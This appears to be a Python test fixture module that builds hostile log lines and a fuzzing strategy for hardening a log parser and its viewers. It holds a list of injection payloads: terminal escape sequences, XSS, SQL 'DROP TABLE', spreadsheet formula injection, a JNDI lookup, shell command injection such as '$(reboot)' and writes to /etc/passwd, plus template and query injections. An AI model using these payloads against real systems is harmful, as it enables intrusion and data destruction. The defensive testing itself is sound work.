"""Log lines that somebody wrote to do harm: to the parser, to the reader's terminal, to what shows or evaluates them later."""

from __future__ import annotations

from hypothesis import strategies as st

from tests.support.lines import WORST

HEAD = "time=2026-11-24T09:00:00.000Z level=ERROR source=server.go:1 "

PAYLOADS: dict[str, str] = {
    "clear screen": "\x1b[2J\x1b[H\x1b[31m",
    "window title": "\x1b]0;owned\x07",
    "terminal link": "\x1b]8;;https://example.test\x1b\\text\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "one-byte controls": "\x9b2J\x90\x9d0;x\x9c",
    "backspaces": "harmless\b\b\b\b\b\b\b\bevil",
    "NUL": "before\x00after",
    "right to left": "\u202eexe.tset\u202c \u2066\u2067\u2069 \u061c\u200f",
    "zero width": "mo\u200bdel\u200d\ufeff",
    "line separators": "one\u2028two\u2029three\x85four\x0b\x0c",
    "combining": "e" + "\u0301" * 500,
    "private and unassigned": "\ue000\U000e0001\U0010ffff\ufdd0\uffff",
    "rich markup": "[bold red]x[/] [link=https://example.test]y[/link] [/nothing]",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>&lt;",
    "Markdown": "[x](javascript:alert(1)) ![y](https://example.test/z) `` ` ``",
    "mustache": "{{ctx.monitor.name}} {{{x}}} {{#toJson}}ctx{{/toJson}} {{=<% %>=}}",
    "Painless": "'); System.exit(1); throw new Exception('x /* */ // \\",
    "query string": "* OR _exists_:x AND (a:b)^2 ~3 \\/ [* TO *]",
    "ES|QL": '" | STATS x = COUNT(*) | DROP host // ?param',
    "SQL": "'; DROP TABLE hosts; --",
    "formula": "=cmd|'/C calc'!A0",
    "formula at": "@SUM(1+1)",
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula minus": "-2+3",
    "formula after a tab": "\t=1+1",
    "formula, full width": "\uff1d1+1",
    "risk tokens": "$host$ $error_count$ $error_messages$",
    "look-ups": "${jndi:ldap://example.test/a} %s%n%x {0} {host!r}",
    "regex groups": r"\1 \g<0> $1 ${1}",
    "forged error": 'x level=ERROR err="exit status 9" time=2020-01-01T00:00:00Z source=forged.go:9',
    "JSON": '{"log":"x","a":[[[{}]]]} \\u0000 \\ud800 null',
    "command": "$(reboot) `reboot` | sh && ; > /etc/passwd",
}


def quoted(text: str) -> str:
    """As Go's strconv.Quote might: quotes and backslashes escaped, the rest as it is (which Go would not do)."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def _one_line(text: str) -> bytes:
    return text.encode().replace(b"\n", b" ").replace(b"\r", b" ")


BYTES: dict[str, bytes] = {
    **{f"{name}, in values": _one_line(f"{HEAD}msg={quoted('model ' + p)} err={quoted(p)}") for name, p in PAYLOADS.items()},
    **{f"{name}, at the start": _one_line(f"{HEAD}msg={quoted(p)} err={quoted(p)} model=x") for name, p in PAYLOADS.items()},
    **{f"{name}, raw": _one_line(f'level=ERROR model msg="{p}" err="{p}"') for name, p in PAYLOADS.items()},
    **{f"{name}, bare": _one_line(f"level=ERROR msg={p} err={p} model {p}") for name, p in PAYLOADS.items()},
    "no UTF-8": b'level=ERROR msg="model \xff\xfe\xfa" err="exit status \xc0\xaf 2"',
    "half surrogates": b'level=ERROR msg="model \xed\xa0\x80 \xed\xbf\xbf" err="\xf4\x90\x80\x80"',
    "cut characters": b'level=ERROR msg="model \xe2\x82" err="\xf0\x9f\x98"',
    "half surrogates in a record": b'{"log":"level=ERROR msg=\\"model \\ud800x\\udc00\\" err=\\"\\ud83d\\"\\n"}',
    "NULs only": b"\x00" * 100,
    "year 1": b'time=0001-01-02T00:00:00Z level=ERROR msg="model" err="x"',
    "year 0": b'time=0000-01-01T00:00:00Z level=ERROR msg="model" err="x"',
    "the first instant": b'time=0001-01-01T00:00:00Z level=ERROR msg="model" err="x"',
    "year 9999": b'time=9999-12-30T23:59:59.999Z level=ERROR msg="model" err="x"',
    "the first stamp": b'time=0100-01-01T00:00:00+18:00 level=ERROR msg="model" err="x"',
    "the last stamp": b'time=9899-12-31T23:59:59.999-18:00 level=ERROR msg="model" err="x"',
    "the last instant": b'time=9999-12-31T23:59:59.999Z level=ERROR msg="model" err="x"',
    "year 12345": b'time=12345-01-01T00:00:00Z level=ERROR msg="model" err="x"',
    "negative year": b'time=-0001-01-01T00:00:00Z level=ERROR msg="model" err="x"',
    "deep record": b'{"log":' * 2_000 + b'"level=ERROR model"' + b"}" * 2_000,
    "many levels": b"level=INFO " * 1_000 + b"level=ERROR model",
    "info that says error": b'time=2026-11-24T09:00:00Z level=INFO msg="level=ERROR model exited" err="exit status 1"',
    "not a level": b'xlevel=ERROR msg="model"',
}
"""Hostile lines as bytes, by what they try; none holds a line break."""

MEBIBYTE_LINES: dict[str, bytes] = {
    name: (b'level=ERROR msg="model" ' + line.encode())[: 1 << 20] for name, line in WORST.items() if "\n" not in line
}
"""Lines of a mebibyte that a rule selects."""

_payload = st.sampled_from(list(PAYLOADS.values()))
_text = st.lists(
    _payload | st.text(max_size=8) | st.sampled_from(["model", "exited", "exit status 1", '"', "\\", " "]), max_size=4
).map("".join)
_stamp = st.sampled_from(["", HEAD[: HEAD.index("level")], "time=0100-01-01T00:00:00+18:00 ", "time=9899-12-31T23:59:59-18:00 "])
_level = st.sampled_from(["ERROR", "ERROR", "error", "INFO", "ERROR+1", "\u0415RROR"])
_value = _text.map(quoted) | _text
_line = st.builds("{}level={} msg={} err={} model={}".format, _stamp, _level, _value, _value, _value)
_noise = st.binary(max_size=6)


def _spoilt(line: str, noise: bytes, at: int) -> bytes:
    raw = line.encode(errors="surrogatepass")
    place = at % (len(raw) + 1)
    return (raw[:place] + noise + raw[place:]).replace(b"\n", b" ").replace(b"\r", b" ")


hostile_lines: st.SearchStrategy[bytes] = st.builds(_spoilt, _line, _noise, st.integers(0, 1_000))
"""Lines made of payloads, forged keys and bytes that are no text."""
